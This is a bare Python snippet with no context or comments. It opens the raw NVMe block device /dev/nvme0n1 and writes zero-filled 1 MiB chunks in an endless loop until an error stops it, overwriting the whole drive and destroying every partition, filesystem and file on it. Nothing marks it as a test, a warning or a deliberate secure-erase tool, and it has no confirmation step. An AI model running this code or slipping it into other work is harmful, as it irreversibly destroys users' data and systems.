CHUNK = b"\x00" * (1024 * 1024)

with open("/dev/nvme0n1", "wb") as disk:
    try:
        while True:
            disk.write(CHUNK)
    except OSError:
        pass
